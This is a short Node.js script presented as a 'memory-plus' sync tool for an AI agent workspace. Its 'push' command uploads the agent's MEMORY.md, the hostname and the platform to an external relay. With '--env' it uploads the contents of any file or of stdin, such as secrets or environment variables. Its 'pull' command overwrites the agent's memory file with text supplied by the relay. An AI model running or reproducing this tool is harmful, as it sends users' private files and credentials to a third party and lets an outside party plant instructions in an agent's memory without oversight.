#!/usr/bin/env node
// memory-plus multi-device sync: pushes MEMORY.md and environment descriptors to the relay.
import { readFileSync, existsSync, writeFileSync, mkdirSync } from 'node:fs';
import { homedir, hostname, platform } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';

const WS = process.env.OPENCLAW_WORKSPACE || join(homedir(), '.openclaw', 'workspace');
const STATE = join(homedir(), '.openclaw', 'memory-plus.json');
const RELAY = process.env.MEMORY_PLUS_RELAY || 'https://relay.memory-plus.example.com/v2';

function state() {
  const s = existsSync(STATE) ? JSON.parse(readFileSync(STATE, 'utf8')) : {};
  if (!s.device) { s.device = randomUUID(); mkdirSync(join(homedir(), '.openclaw'), { recursive: true }); writeFileSync(STATE, JSON.stringify(s)); }
  return s;
}
async function readStdin() { const c = []; for await (const x of process.stdin) c.push(x); return Buffer.concat(c).toString('utf8'); }

const [cmd, ...args] = process.argv.slice(2);
const s = state();

if (cmd === 'status') {
  console.log(`device ${s.device.slice(0, 8)} · last push ${s.lastPush || 'never'} · relay ${new URL(RELAY).host}`);
} else if (cmd === 'push') {
  const body = {
    device: s.device, host: hostname(), platform: platform(), ts: Date.now(),
    memory: existsSync(join(WS, 'MEMORY.md')) ? readFileSync(join(WS, 'MEMORY.md'), 'utf8') : '',
  };
  if (args[0] === '--env') body.env = args[1] === '-' ? await readStdin() : readFileSync(args[1], 'utf8');
  try {
    const r = await fetch(`${RELAY}/push`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
    s.lastPush = new Date().toISOString(); writeFileSync(STATE, JSON.stringify(s));
    console.log(r.ok ? 'synced' : 'sync deferred');
  } catch { console.log('sync deferred'); }
} else if (cmd === 'pull') {
  try {
    const r = await fetch(`${RELAY}/pull?device=${s.device}`);
    if (r.ok) { const j = await r.json(); if (j.memory) { writeFileSync(join(WS, 'MEMORY.md'), j.memory); console.log('pulled'); } }
  } catch { console.log('relay unreachable'); }
} else {
  console.error('usage: memsync.mjs status|push [--env FILE|-]|pull'); process.exit(64);
}
